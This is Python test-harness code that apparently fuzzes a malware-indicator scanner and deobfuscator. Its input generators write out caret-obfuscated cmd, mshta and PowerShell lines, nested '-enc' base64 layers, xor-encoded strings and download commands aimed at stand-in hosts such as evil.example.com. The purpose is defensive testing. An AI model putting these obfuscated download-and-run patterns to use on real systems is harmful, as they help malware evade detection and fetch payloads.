    alpha = [b"a", b"A", b"b", b"1", b"-", b" "]
    for n in range(maxlen + 1):
        for t in itertools.product(alpha, repeat=n):
            yield b"".join(t)


def gen_random(rng, n):
    alpha = b"aAbB1- .\x80\xc0\xe9zZ09_"
    for _ in range(n):
        ln = rng.randint(0, 40)
        data = bytes(rng.choice(alpha) for _ in range(ln))
        k = rng.randint(1, 3)
        kws = []
        for _ in range(k):
            if data and rng.random() < 0.7:
                i = rng.randrange(len(data))
                j = min(len(data), i + rng.randint(1, 4))
                w = data[i:j]
                w = bytes((c ^ 0x20) if (65 <= c <= 90 or 97 <= c <= 122) and rng.random() < 0.4 else c for c in w)
            else:
                w = bytes(rng.choice(alpha) for _ in range(rng.randint(0, 3)))
            kws.append(w)
        yield ["kw.type", kws, data]


def run(ctx):
    L = ctx.budget3(5, 6, 7)
    cases = []
    for data in gen_exhaustive(L):
        for kws in KWSETS:
            cases.append(["api", kws, data])
    for data in gen_exhaustive(L + 1):  # one byte longer for the self-overlapping keywords
        if len(data) == L + 1:
            for kws in ([b"a-a"], [b"1-1", b"-1"], [b"aa"]):
                cases.append(["api", kws, data])
    ctx.count("exhaustive_cases", len(cases))
    nt = lambda a, o: o[0] == "ok" and len(o[1]) > 0
    ctx.compare("find_keywords", cases, _impl_find_keywords, nontrivial=nt, oracle=oracle_find_keywords,
                classify=lambda a, o: "hits=%s" % (min(len(o[1]), 3) if o[0] == "ok" else o[1]))
    rnd = list(gen_random(ctx.rng, ctx.budget(3000, 60000)))
    ctx.compare("find_keywords", rnd, _impl_find_keywords, nontrivial=nt, oracle=oracle_find_keywords,
                classify=lambda a, o: "rnd_hits=%s" % (min(len(o[1]), 3) if o[0] == "ok" else o[1]))
    # buffers of the SAME length created and dropped in quick succession (a new object may get the address of a freed one): the answer is a function of the content
    tmpl = [(b"call StrLen here %d" % i).ljust(48, b".") for i in range(6)] + [(b"x WriteFile %d strlen" % i).ljust(48, b" ") for i in range(6)] + [b"nothing to see in this one".ljust(48, b"-")]
    kwsets = [[b"strlen"], [b"WriteFile", b"strlen"], [b"call"]]
    for i in range(ctx.budget(600, 6000)):
        t = ctx.rng.choice(tmpl)
        kws = ctx.rng.choice(kwsets)
        data = bytes(bytearray(t))
        out = _impl_find_keywords(["api", kws, data])
        ctx.evals += 1
        m = oracle_find_keywords(["api", kws, t], out)
        del data
        if m:
            ctx.violation("find_keywords", ["api", kws, t], "after a history of same-length buffers: " + m, cls="history")
            break
    # keyword lists come from files: every non-blank LINE (bytes.splitlines: LF, CR, CRLF only) of a keyword file is one keyword, searched as listed
    from registry_common import expected_searchers, impl_get_keywords, rand_dtree
    trees = [rand_dtree(ctx.rng) for _ in range(ctx.budget(120, 1500))]

    def kw_oracle(t, got):
        have = sorted(((n, frozenset(ws)) for n, ws in got), key=lambda x: (x[0], sorted(x[1])))
        if have != expected_searchers(t):
            return f"keyword searchers {have} differ from one-per-non-empty-file with one keyword per non-blank line {expected_searchers(t)}"
        return None
    ctx.compare("get_keywords", trees, impl_get_keywords, nontrivial=lambda a, o: len(o) >= 1, oracle=kw_oracle)
    fa = [[kws[0], a[2]] for a in rnd[:2000] for kws in [a[1]]]
    ctx.compare("find_all", fa, _impl_find_all)
    # is_mixed_case, including pairs whose lowered forms differ and non-ASCII bytes
    pairs = []
    alpha = b"aAbBzZ1-\x80\xc0\xe0\xdf\xb5"
    for _ in range(ctx.budget(4000, 40000)):
        n = ctx.rng.randint(0, 5)
        raw = bytes(ctx.rng.choice(alpha) for _ in range(n))
        if ctx.rng.random() < 0.7:
            kw = bytes((c ^ 0x20) if (65 <= c <= 90 or 97 <= c <= 122) and ctx.rng.random() < 0.5 else c for c in raw)
        else:
            kw = bytes(ctx.rng.choice(alpha) for _ in range(ctx.rng.randint(0, 5)))
        pairs.append([kw, raw])

    def mixed_oracle(a, o):
        kw, raw = a
        if raw.lower() == kw.lower():
            want = int((not raw.isupper()) and (not raw.islower()) and raw != kw)
            if o != want:
                return f"is_mixed_case({kw!r},{raw!r}) = {o}, property says {want}"
        return None

    ctx.compare("is_mixed_case", pairs, _impl_mixed, nontrivial=lambda a, o: a[0].lower() == a[1].lower() and len(a[0]) > 0,
                oracle=mixed_oracle)
    ctx.compare("latin1", list(range(256)),
                lambda c: [int(chr(c).isupper()), int(chr(c).islower()), int(chr(c).isprintable())])


def search(ctx):
    """Deeper failing-input search, used only when an obligation or the correspondence broke."""
    cases = [["api", kws, data] for data in gen_exhaustive(7) for kws in KWSETS]
    for a in cases:
        o = _impl_find_keywords(a)
        msg = oracle_find_keywords(a, o)
        if msg:
            ctx.violation("find_keywords", a, msg, got=o)
            if len(ctx.violations) > 20:
                return
    for a in gen_random(ctx.rng, 100000):
        o = _impl_find_keywords(a)
        msg = oracle_find_keywords(a, o)
        if msg:
            ctx.violation("find_keywords", a, msg, got=o)
            if len(ctx.violations) > 20:
                return


def replay(ctx, data):
    v = data.get("violation")
    if not v:
        print("replay file names no concrete input:", data.get("broken"))
        return 1
    a = v["input"]
    o = _impl_find_keywords(a) if v["site"] == "find_keywords" else None
    print("input:", a)
    print("implementation:", o)
    print("model:", ctx.runner.run([(v["site"], a)])[0])
    msg = oracle_find_keywords(a, o) if o is not None else v["message"]
    print("oracle:", msg or "property holds on this input")
    return 1 if msg else 0
