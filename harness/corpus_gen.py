"""Whole-scan input generators: grammar-based indicators, shell command texts, encoder stacks, fragment splicing, malformed stream."""
from __future__ import annotations

import base64

import stacks

TLDS = [b"com", b"org", b"net", b"co.uk", b"io", b"info", b"ru", b"xn--p1ai"]
LABELS = [b"example", b"evil-site", b"cdn", b"a", b"mail", b"x1", b"files", b"my-host", b"www"]
SCHEMES = [b"http", b"https", b"ftp", b"HTTP", b"hTTps", b"Ftp"]


def domain(rng):
    n = rng.randint(1, 3)
    return b".".join(rng.choice(LABELS) for _ in range(n)) + b"." + rng.choice(TLDS)


def ipv4(rng, canonical=True):
    if canonical:
        return b".".join(str(rng.choice([0, 1, 9, 10, 99, 100, 127, 192, 200, 254, 255])).encode() for _ in range(4))
    forms = [b"0x7f.0.0.1", b"010.1.1.1", b"1.2.3.04", b"256.1.1.1", b"1.2.3", b"0x0a.0x1.1.1", b"192.168.1.300", b"1.2.3.4.5", b"00.0.0.0"]
    return rng.choice(forms)


def pct(rng, s, p=0.3):
    out = b""
    for c in s:
        if rng.random() < p:
            out += (b"%%%02x" if rng.random() < 0.5 else b"%%%02X") % c
        else:
            out += bytes([c])
    return out


def url(rng):
    u = rng.choice(SCHEMES) + b"://"
    if rng.random() < 0.25:
        user = rng.choice([b"user", b"user", b"", b"a.b", b"u;x=1", b"admin", b"administrator"])
        u += pct(rng, user, 0.2)
        if rng.random() < 0.6:
            u += b":" + pct(rng, rng.choice([b"p4ss", b"pa:ss", b":x", b"a:b:c", b"", b"p:", b"p@ss", user, user[1:4], b"min"]), 0.2)      # RFC 3986: the user name ends at the FIRST colon
        u += b"@"
    r = rng.random()
    if r < 0.5:
        u += pct(rng, domain(rng), 0.1) + (b"." if rng.random() < 0.1 else b"")      # fully qualified spelling with a trailing dot
    elif r < 0.7:
        u += ipv4(rng)
    elif r < 0.8:
        u += rng.choice([b"0x7f.0.0.1", b"2130706433", b"192.168.1", b"010.0.0.1"])
    elif r < 0.9:
        u += rng.choice([b"[2001:db8::7]", b"[::1]", b"[fe80::1:2:3]", b"[2001:DB8:0:0:0:0:0:1]", b"[2001:DB8::7]", b"[FE80::1]", b"[::FFFF:1.2.3.4]", b"[2001:db8::0:7]"])
    else:
        u += rng.choice([b"localhost", b"host", b"exa_mple.com"])
    if rng.random() < 0.3:
        u += b":" + rng.choice([b"80", b"8080", b"", b"65535", b"65536", b"0"])
    if rng.random() < 0.8:
        segs = [rng.choice([b"a", b"b%2Fc", b".", b"..", b"", b"dl", b"%2e%2e", b"file.exe", b"%7Euser", b"x y".replace(b" ", b"%20"), b"%41"]) for _ in range(rng.randint(0, 5))]
        u += b"/" + b"/".join(segs)
    if rng.random() < 0.4:
        u += b"?" + rng.choice([b"", b"q=1", b"a=%3d&b=%41", b"x=%zz", b"k=v%2F"])
    if rng.random() < 0.3:
        u += b"#" + rng.choice([b"", b"frag", b"f%72ag", b"a/b", b"/login?next=home", b"?", b"a#b"])
    return u


def email(rng):
    return rng.choice([b"bob", b"alice.smith", b"a_b+c", b"x%y"]) + b"@" + domain(rng)


def winpath(rng):
    roots = [b"C:\\", b"c:", b"\\\\server\\share\\", b"\\\\10.1.2.3\\c$\\", b"\\\\example.com@SSL@8080\\dav\\", b"\\\\?\\C:\\", b"\\\\.\\UNC\\host.example.com\\share\\",
             b"\\\\?\\Volume{12345678-1234-1234-1234-123456789abc}\\", b"\\", b""]
    segs = [rng.choice([b"Windows", b"System32", b".", b"..", b"Users", b"Pub-lic", b"a.b"]) for _ in range(rng.randint(1, 4))]
    return rng.choice(roots) + b"\\".join(segs) + b"\\" + rng.choice([b"cmd.exe", b"kernel32.dll", b"readme.txt", b"noext", b"a.tar.gz"])


def posixpath(rng):
    return rng.choice([b"", b".", b".."]) + b"/" + b"/".join(rng.choice([b"usr", b"var", b"www", b"lib64", b"etc"]) for _ in range(rng.randint(1, 3))) + b"/" + rng.choice([b"passwd", b"libc.so.6", b"index.html"])


def shell(rng):
    cmds = [b"cmd /c ", b"cmd.exe /k ", b"c^m^d /c ", b'"cmd" /c ', b"C:\\Windows\\System32\\cmd /r "]
    body = rng.choice([b"curl http://example.com/some/path/file.txt -o x", b"start \\\\files.example.org\\share\\tool.exe /q", b"ping 10.20.30.40 -n 1", b"(cmd /c dir) & echo (", b"type a) else (echo x & echo (gone",
                       b"if exist a (cmd /c type a) else (echo (b", b"echo (a) (b) (c", b"echo a)b(c", b"echo hi", b"m^sh^ta h^ttp^://some.url/x.hta", b"dir (a) b) c", b'echo "a^b" ^& calc', b"start^\r\nnext", b"powershell -nop -w hidden",
                       b"for /f %i in ('powershell -c x') do echo %i", b"echo ^", b"echo a^\r", b'set x="unterminated ^ caret'])
    ps = [b"", b"powershell -enc " + base64.b64encode("Write-Host hi".encode("utf-16-le")),
          b"pwsh /e " + base64.b64encode("calc".encode("utf-16-le")), b'powershell -NoP -EncodedCommand "' + base64.b64encode("ls".encode("utf-16-le")) + b'"',
          b"p^o^w^e^r^s^h^e^l^l -e^c aQBkAA==", b"'powershell -c Get-Item'", b'"powershell Get-Item', b"('powershell x')", b"powershell/e^\r\nAAAA"]
    if rng.random() < 0.12:
        inner = "Write-Host http://stage3.example.com/x"
        for _ in range(rng.randint(1, 3)):
            inner = "powershell -enc " + base64.b64encode(inner.encode("utf-16-le")).decode()
        ps = [inner.encode()]
    return rng.choice(cmds) + body + (b" & " + rng.choice(ps) if rng.random() < 0.6 else b"")


def truncated_url(rng):
    """a URL candidate cut short by its surrounding bracket / quote context before the real host"""
    return rng.choice([b"see x (http://:80)@host.example.com/a for details", b"open('http://user@'@evil.example.com/x')", b"(http://user)@host.example.com/", b"'http://u:p'@h.example.com/x'",
                       b"x (ftp://)@files.example.org/a) y", b"(https://user:pw@)host.example.com/", b"'http://'example.com/'", b"(http://a.example.com/x) (http://@)b.example.com"])


FRAGMENTS = [
    b"atob(\"aGVsbG8=\")", b"Base64Decode('d29ybGQ=')", b"[System.Convert]::FromBase64String('ZHVjaw==')", b" -bxor 35", b" -bxor 999", b"-xor 0", b" -bxor 255", b",".join(b"%d" % ((i * 7) % 256) for i in range(505)) + b" -bxor 255", b",".join(b"%d" % ((i * 5) % 256) for i in range(505)) + b" -bxor 254",
    b"FromHexString('68656c6c6f20776f726c6468656c6c6f')", b"68656c6c6f20776f726c6468656c6c6f", b"12345678901234567890ABCDEF1234", b"&#72;&#105;&#x21;&#33;&#10;&#65;", b"&#xzz;&#1;&#2;&#3;&#4;&#5;",
    b"chr(65)", b"ChrW(233)", b"chrb(55296)", b"chr(99999)", b"chr(0000065)", b"unescape('%41%zz%')", b"h\x00e\x00l\x00l\x00o\x00 \x00w\x00o\x00r\x00l\x00d\x00",
    b'"a" + "b" & "c"', b"'x' &amp; 'y'", b'"ab"_\n+ "cd"', b'reverse("olleh")', b"StrReverse('dlrow')", b'"hello".replace("l", "L")', b"Replace('abc', 'b', 'X')", b"'a-b' -replace '-','+'",
    b'"x.y".replace(/./g, "!")', b'"aXbXc".replace(/X/gi, "-")', b"CreateObject(\"WScript.Shell\")", b"createobject((a)(b)", b"MZ", b"MZ\x90\x00" + b"\x00" * 56 + b"\x40\x00\x00\x00PE\x00\x00",
    b"cmd /c echo ^", b"cmd a) b) c", b"powershell -enc ", b"aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=", b"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", b"version=1.2.3.4", b"<t>1.2.3.4</t>", b"section 1.2.3.4",
    b"this.value.com", b"Array.prototype.at", b"libfoo.so", b"kernel32.dll", b"calc.exe", b"\\\\?\\UNC\\srv\\s\\f.exe", b"http://[::1]/", b"http://a.com/p?#frag", b"ftp://u:p@h.example.org:21/d/../f",
    b"'", b'"', b"(", b")", b"^", b"\r\n", b"\x00", b"&#13;&#10;", b"<\x00  \x00", b"%", b"&#xA", b"0x41,0x42,", b" ",
]


SPECIAL_LITS = [b"\\", b"\\1", b"\\g<0>", b"$1", b"&", b"\\U", b"a\\", b"\\x", b".*", b"(", b"[a", b"\\d+", b"^", b"$"]


def replace_special(rng):
    """the three replace dialects with literals that are special to regular-expression patterns / replacement templates (the decoders do PLAIN substitution)"""
    x = rng.choice([b"C:#Users#Public#run.ps1", b"a.b.c", b"tth.exe-path", b"aXbXc", b"p(q)r", b"1+1=2"])
    a = rng.choice([b"#", b".", b"th", b"X", b"(", b"+", b"1"])
    b = rng.choice(SPECIAL_LITS)
    q = rng.choice([b"'", b'"'])
    k = rng.randrange(3)
    if k == 0:
        return b"$p = " + b"'" + x + b"' -replace '" + a + b"','" + b + b"'"
    if k == 1:
        return b"x = " + q + x + q + b".replace(" + q + a + q + b", " + q + b + q + b")"
    return b"y = Replace(" + b'"' + x + b'", "' + a + b'", "' + b + b'")'


def xor_document(rng):
    """several statements in one document, each its own stack of layers, with xor keys given literally (-bxor 35), by variable (-bxor $k) or not at all, at
    different nesting depths: what one statement decodes to must not depend on the others"""
    def stmt(tail=None, wraps=None):
        inner = rng.choice([b"[System.Convert]::FromBase64String('" + base64.b64encode(rng.choice([b"GV@H", b"http://evil.example.com/x.exe", b"duck duck goose"])) + b"')",
                            b"FromHexString('" + rng.choice([b"GV@H payload here", b"http://a.example.org/"]).hex().encode() + b"')"])
        if tail is None:
            tail = rng.choice([b"", b"", b" -bxor 35", b" -bxor $k", b" -bxor 7", b"; $k = 70 -bxor 35"])
        text = b"$b=" + inner + tail + b";"
        for _ in range(rng.randint(0, 3) if wraps is None else wraps):
            l = rng.choice([stacks.BY_NAME[n] for n in ("b64", "atob", "hex", "unescape", "FromBase64String", "xml")])
            if not l.dom(text) or len(text) > 1500:
                break
            text = b"$s = " + l.enc(text) + b";"
        return text
    k = rng.random()
    if k < 0.04:     # a byte array xored with a key held in a variable (key guessing), twice in one document / inside an encoded layer
        def arr():
            key = rng.choice([b"K3y", b"s3cr3t!", b"ab"])
            plain = (rng.choice([b"Invoke-WebRequest http://evil.example.com/stage2.ps1 ; ", b"The quick brown fox jumps over the lazy dog. "]) * 20)[:rng.choice([601, 602, 605])]
            ct = bytes(c ^ key[i % len(key)] for i, c in enumerate(plain))
            return b"$d = " + b",".join(b"%d" % c for c in ct) + b"; $d[$i] = $d[$i] -bxor $k[$i % $k.Length]"
        a = arr()
        if rng.random() < 0.5:
            a = b"var s = atob('" + base64.b64encode(a) + b"')"
        return a + b"\r\n" + arr()
    if k < 0.3:      # key written out in the OUTER layer, used through a variable one or two layers further in
        return b"$k = 70 -bxor 35\r\n" + b"\r\n".join([stmt(b" -bxor $k", rng.randint(1, 2))] + [stmt() for _ in range(rng.randint(0, 2))])
    if k < 0.45:     # the reverse: variable outside, literal inside
        return b"$x = $y -bxor $k\r\n" + b"\r\n".join([stmt(b" -bxor 35", rng.randint(1, 2))] + [stmt() for _ in range(rng.randint(0, 2))])
    if k < 0.6:      # a literal key deep in the FIRST statement, none in the second
        return stmt(b" -bxor 35", rng.randint(2, 3)) + b"\r\n" + stmt(b"", rng.randint(0, 1)) + b"\r\n" + stmt(b" -bxor $k", rng.randint(0, 1))
    head = rng.choice([b"", b"$k = 70 -bxor 35\r\n", b"# no key here\n"])
    return head + b"\r\n".join(stmt() for _ in range(rng.randint(2, 3)))


def tiny_pe():
    import struct
    pe = bytearray(0x200)
    pe[0:2] = b"MZ"
    struct.pack_into("<I", pe, 0x3C, 0x80)
    pe[0x80:0x84] = b"PE\0\0"
    struct.pack_into("<HHIIIHH", pe, 0x84, 0x14C, 1, 0, 0, 0, 0xE0, 0x102)
    struct.pack_into("<H", pe, 0x98, 0x10B)
    pe[0x178:0x180] = b".text\0\0\0"
    struct.pack_into("<IIII", pe, 0x180, 0x200, 0x1000, 0x40, 0x200)
    return bytes(pe) + b"\x90" * 0x40


def depth_mix_document(rng):
    """the SAME payload (a URL text, an e-mail, a parseable PE file) at two different decoding depths in one document, the deeper copy first or last:
    what is found in one place must not depend on the other having been found (at any depth limit)"""
    payload = rng.choice([b"junk" + tiny_pe(), b"drop " + tiny_pe(), b"GET http://evil.example.com/payload.exe now", b"mail admin@corp-mail.example.org the loot"])
    def wrap(text, k):
        for _ in range(k):
            text = base64.b64encode(text) if rng.random() < 0.7 else text.hex().encode()
        return text
    a, b = wrap(rng.choice([b"x ", b""]) + payload, 2), wrap(payload, 1)
    parts = [a, b] if rng.random() < 0.5 else [b, a]
    return b"s1 = " + parts[0] + b" ;\r\ns2 = " + parts[1] + b" ;"


def splice(rng, n=None):
    k = n or rng.randint(1, 6)
    return b"".join(rng.choice(FRAGMENTS) if rng.random() < 0.8 else bytes(rng.randrange(256) for _ in range(rng.randint(1, 4))) for _ in range(k))


def embed(rng, s):
    return rng.choice(stacks.NEUTRAL_PRE) + s + rng.choice(stacks.NEUTRAL_SUF)


def plain_nested(rng):
    """texts in which NOTHING is encoded or normalised (lower-case scheme / host, no escapes, no carets, no dot segments) but indicators nest inside undecoded
    contexts that do not start at offset 0: child-bearing hits (URL with its parts, UNC path with its host) inside command lines / CreateObject / quoted strings"""
    inner = rng.choice([b"http://example.com/some/path/file.txt", b"https://files.example.org/dl/tool.exe?x=1#top", b"ftp://user:pw@10.20.30.40:21/pub/a.dll", b"\\\\files.example.org\\share\\tool.exe",
                        b"C:\\Users\\Public\\stage2\\loader.dll", b"/usr/local/lib/libfoo.so", b"admin@corp-mail.example.org", b"10.20.30.40", b"kernel32.dll"])
    ctxs = [b"cmd /c curl %s -o x", b"cmd.exe /k start %s /q", b'x = CreateObject("%s")', b"cmd /c echo %s & ping %s", b"http://example.com/redirect?to=%s", b"cmd /c (copy %s d) & echo z"]
    if rng.random() < 0.2:
        # two undecoded hits that STRADDLE (the second starts inside the first and ends after it)
        body = rng.choice([b"contact bob@www.example.com\\dirname\\file.txt today", b"see /aaa/bbb/ccc.evil.com-foo.net now", b"mail a@files.example.org/pub/tool.exe x", b"get www.example.com\\share\\a.dll",
                           b"at 10.20.30.40\\c$\\x.exe and", b"/usr/lib/libfoo.so.example.com/x"])
        return rng.choice([b"run: ", b"zz ~ ", b"\n\n", b"note; "]) + body + rng.choice([b"", b" ~ zz", b"\n"])
    c = rng.choice(ctxs)
    body = c.replace(b"%s", inner)
    return rng.choice([b"run: ", b"zz ~ ", b"\n\n", b"note; "]) + body + rng.choice([b"", b" ~ zz", b"\n"])


_REGEX_TERMS = None


def regex_terms():
    """the CURRENT patterns of /repo (every *_RE constant and inline literal), translated to the sampling AST; small ones only"""
    global _REGEX_TERMS
    if _REGEX_TERMS is None:
        import gen_regexes
        _REGEX_TERMS = []
        for name, pat, _ in gen_regexes.collect():
            try:
                r, _ng = gen_regexes.translate(pat, name)
            except Exception:  # noqa: BLE001   (the translator's own check reports it)
                continue
            _REGEX_TERMS.append((name, r))
    return _REGEX_TERMS


def regex_word(rng):
    """a word of the language of one of the shipped patterns (both letter cases of case-insensitive patterns, every class member reachable), sometimes two of them"""
    import regex_probe
    terms = regex_terms()
    for _ in range(5):
        _name, r = rng.choice(terms)
        w = regex_probe.sample(r, rng)
        if 0 < len(w) < 2000:
            return w
    return b"x"


def gen_inputs(rng, n, kinds=("indicator", "shell", "stack", "splice", "regex")):
    out = []
    for _ in range(n):
        k = rng.choice(kinds)
        if k == "regex":
            w = regex_word(rng)
            r = rng.random()
            if r < 0.5:
                out.append(embed(rng, w))
            elif r < 0.75:
                out.append(embed(rng, w + rng.choice([b" ", b"\n", b"; "]) + regex_word(rng)))
            else:
                out.append(w)
            continue
        if k == "indicator":
            f = rng.choice([url, url, url, domain, lambda r: ipv4(r, r.random() < 0.7), email, winpath, posixpath, truncated_url])
            parts = [f(rng) for _ in range(rng.randint(1, 3))]
            sep = rng.choice([b" ", b"\n", b"' '", b" ( ", b"; "])
            out.append(embed(rng, sep.join(parts)))
        elif k == "shell":
            out.append(embed(rng, shell(rng)))
        elif k == "stack":
            h = rng.randint(1, 3)
            layers = [rng.choice(stacks.LAYERS) for _ in range(h)]
            b = stacks.build(rng.choice(stacks.PAYLOADS), layers, rng.choice(stacks.NEUTRAL_PRE), rng.choice(stacks.NEUTRAL_SUF))
            if b is not None and len(b[0]) < 6000:
                out.append(b[0])
            else:
                out.append(embed(rng, splice(rng)))
        else:
            r = rng.random()
            out.append(replace_special(rng) if r < 0.12 else xor_document(rng) if r < 0.3 else depth_mix_document(rng) if r < 0.36 else splice(rng))
    return out
