"""Whole-scan input generators: grammar-based indicators, shell command texts, encoder stacks, fragment splicing, malformed stream."""
from __future__ import annotations

import base64

import stacks

TLDS = [b"com", b"org", b"net", b"co.uk", b"io", b"info", b"ru", b"xn--p1ai"]
LABELS = [b"example", b"evil-site", b"cdn", b"a", b"mail", b"x1", b"files", b"my-host", b"www"]
SCHEMES = [b"http", b"https", b"ftp", b"HTTP", b"hTTps", b"Ftp"]


def domain(rng):
    n = rng.randint(1, 3)
    return b".".join(rng.choice(LABELS) for _ in range(n)) + b"." + rng.choice(TLDS)


def ipv4(rng, canonical=True):
    if canonical:
        return b".".join(str(rng.choice([0, 1, 9, 10, 99, 100, 127, 192, 200, 254, 255])).encode() for _ in range(4))
    forms = [b"0x7f.0.0.1", b"010.1.1.1", b"1.2.3.04", b"256.1.1.1", b"1.2.3", b"0x0a.0x1.1.1", b"192.168.1.300", b"1.2.3.4.5", b"00.0.0.0"]
    return rng.choice(forms)


def pct(rng, s, p=0.3):
    out = b""
    for c in s:
        if rng.random() < p:
            out += (b"%%%02x" if rng.random() < 0.5 else b"%%%02X") % c
        else:
            out += bytes([c])
    return out


def url(rng):
    u = rng.choice(SCHEMES) + b"://"
    if rng.random() < 0.25:
        u += pct(rng, b"user", 0.2)
        if rng.random() < 0.5:
            u += b":" + pct(rng, b"p4ss", 0.2)
        u += b"@"
    r = rng.random()
    if r < 0.5:
        u += pct(rng, domain(rng), 0.1)
    elif r < 0.7:
        u += ipv4(rng)
    elif r < 0.8:
        u += rng.choice([b"0x7f.0.0.1", b"2130706433", b"192.168.1", b"010.0.0.1"])
    elif r < 0.9:
        u += rng.choice([b"[2001:db8::7]", b"[::1]", b"[fe80::1:2:3]", b"[2001:DB8:0:0:0:0:0:1]"])
    else:
        u += rng.choice([b"localhost", b"host", b"exa_mple.com"])
    if rng.random() < 0.3:
        u += b":" + rng.choice([b"80", b"8080", b"", b"65535", b"65536", b"0"])
    if rng.random() < 0.8:
        segs = [rng.choice([b"a", b"b%2Fc", b".", b"..", b"", b"dl", b"%2e%2e", b"file.exe", b"%7Euser", b"x y".replace(b" ", b"%20"), b"%41"]) for _ in range(rng.randint(0, 5))]
        u += b"/" + b"/".join(segs)
    if rng.random() < 0.4:
        u += b"?" + rng.choice([b"", b"q=1", b"a=%3d&b=%41", b"x=%zz", b"k=v%2F"])
    if rng.random() < 0.3:
        u += b"#" + rng.choice([b"", b"frag", b"f%72ag", b"a/b"])
    return u


def email(rng):
    return rng.choice([b"bob", b"alice.smith", b"a_b+c", b"x%y"]) + b"@" + domain(rng)


def winpath(rng):
    roots = [b"C:\\", b"c:", b"\\\\server\\share\\", b"\\\\10.1.2.3\\c$\\", b"\\\\example.com@SSL@8080\\dav\\", b"\\\\?\\C:\\", b"\\\\.\\UNC\\host.example.com\\share\\",
             b"\\\\?\\Volume{12345678-1234-1234-1234-123456789abc}\\", b"\\", b""]
    segs = [rng.choice([b"Windows", b"System32", b".", b"..", b"Users", b"Pub-lic", b"a.b"]) for _ in range(rng.randint(1, 4))]
    return rng.choice(roots) + b"\\".join(segs) + b"\\" + rng.choice([b"cmd.exe", b"kernel32.dll", b"readme.txt", b"noext", b"a.tar.gz"])


def posixpath(rng):
    return rng.choice([b"", b".", b".."]) + b"/" + b"/".join(rng.choice([b"usr", b"var", b"www", b"lib64", b"etc"]) for _ in range(rng.randint(1, 3))) + b"/" + rng.choice([b"passwd", b"libc.so.6", b"index.html"])


def shell(rng):
    cmds = [b"cmd /c ", b"cmd.exe /k ", b"c^m^d /c ", b'"cmd" /c ', b"C:\\Windows\\System32\\cmd /r "]
    body = rng.choice([b"echo hi", b"m^sh^ta h^ttp^://some.url/x.hta", b"dir (a) b) c", b'echo "a^b" ^& calc', b"start^\r\nnext", b"powershell -nop -w hidden",
                       b"for /f %i in ('powershell -c x') do echo %i", b"echo ^", b"echo a^\r", b'set x="unterminated ^ caret'])
    ps = [b"", b"powershell -enc " + base64.b64encode("Write-Host hi".encode("utf-16-le")),
          b"pwsh /e " + base64.b64encode("calc".encode("utf-16-le")), b'powershell -NoP -EncodedCommand "' + base64.b64encode("ls".encode("utf-16-le")) + b'"',
          b"p^o^w^e^r^s^h^e^l^l -e^c aQBkAA==", b"'powershell -c Get-Item'", b'"powershell Get-Item', b"('powershell x')", b"powershell/e^\r\nAAAA"]
    return rng.choice(cmds) + body + (b" & " + rng.choice(ps) if rng.random() < 0.6 else b"")


FRAGMENTS = [
    b"atob(\"aGVsbG8=\")", b"Base64Decode('d29ybGQ=')", b"[System.Convert]::FromBase64String('ZHVjaw==')", b" -bxor 35", b" -bxor 999", b"-xor 0",
    b"FromHexString('68656c6c6f20776f726c6468656c6c6f')", b"68656c6c6f20776f726c6468656c6c6f", b"12345678901234567890ABCDEF1234", b"&#72;&#105;&#x21;&#33;&#10;&#65;", b"&#xzz;&#1;&#2;&#3;&#4;&#5;",
    b"chr(65)", b"ChrW(233)", b"chrb(55296)", b"chr(99999)", b"chr(0000065)", b"unescape('%41%zz%')", b"h\x00e\x00l\x00l\x00o\x00 \x00w\x00o\x00r\x00l\x00d\x00",
    b'"a" + "b" & "c"', b"'x' &amp; 'y'", b'"ab"_\n+ "cd"', b'reverse("olleh")', b"StrReverse('dlrow')", b'"hello".replace("l", "L")', b"Replace('abc', 'b', 'X')", b"'a-b' -replace '-','+'",
    b'"x.y".replace(/./g, "!")', b'"aXbXc".replace(/X/gi, "-")', b"CreateObject(\"WScript.Shell\")", b"createobject((a)(b)", b"MZ", b"MZ\x90\x00" + b"\x00" * 56 + b"\x40\x00\x00\x00PE\x00\x00",
    b"cmd /c echo ^", b"cmd a) b) c", b"powershell -enc ", b"aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=", b"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", b"version=1.2.3.4", b"<t>1.2.3.4</t>", b"section 1.2.3.4",
    b"this.value.com", b"Array.prototype.at", b"libfoo.so", b"kernel32.dll", b"calc.exe", b"\\\\?\\UNC\\srv\\s\\f.exe", b"http://[::1]/", b"http://a.com/p?#frag", b"ftp://u:p@h.example.org:21/d/../f",
    b"'", b'"', b"(", b")", b"^", b"\r\n", b"\x00", b"&#13;&#10;", b"<\x00  \x00", b"%", b"&#xA", b"0x41,0x42,", b" ",
]


def splice(rng, n=None):
    k = n or rng.randint(1, 6)
    return b"".join(rng.choice(FRAGMENTS) if rng.random() < 0.8 else bytes(rng.randrange(256) for _ in range(rng.randint(1, 4))) for _ in range(k))


def embed(rng, s):
    return rng.choice(stacks.NEUTRAL_PRE) + s + rng.choice(stacks.NEUTRAL_SUF)


def gen_inputs(rng, n, kinds=("indicator", "shell", "stack", "splice")):
    out = []
    for _ in range(n):
        k = rng.choice(kinds)
        if k == "indicator":
            f = rng.choice([url, url, domain, lambda r: ipv4(r, r.random() < 0.7), email, winpath, posixpath])
            parts = [f(rng) for _ in range(rng.randint(1, 3))]
            sep = rng.choice([b" ", b"\n", b"' '", b" ( ", b"; "])
            out.append(embed(rng, sep.join(parts)))
        elif k == "shell":
            out.append(embed(rng, shell(rng)))
        elif k == "stack":
            h = rng.randint(1, 3)
            layers = [rng.choice(stacks.LAYERS) for _ in range(h)]
            b = stacks.build(rng.choice(stacks.PAYLOADS), layers, rng.choice(stacks.NEUTRAL_PRE), rng.choice(stacks.NEUTRAL_SUF))
            if b is not None and len(b[0]) < 6000:
                out.append(b[0])
            else:
                out.append(embed(rng, splice(rng)))
        else:
            out.append(splice(rng))
    return out
