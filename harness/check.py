"""./check Cxx --tier quick|thorough  |  ./check Cxx --replay <file>

Protocol (DESIGN.md section 2.5):
 1. regenerate coq/Generated from /repo's current source (translator);
 2. full .vo build of the property's theorems, Print Assumptions captured, hygiene grep;
 3. (re)build the extracted model runner;
 4. corpus + correspondence probes (model vs implementation) + property oracles on the implementation;
 5. decide; 6. write evidence/<id>.json.
"""
from __future__ import annotations

import argparse
import hashlib
import importlib
import json
import os
import random
import sys
import time
import traceback

HERE = os.path.dirname(os.path.abspath(__file__))
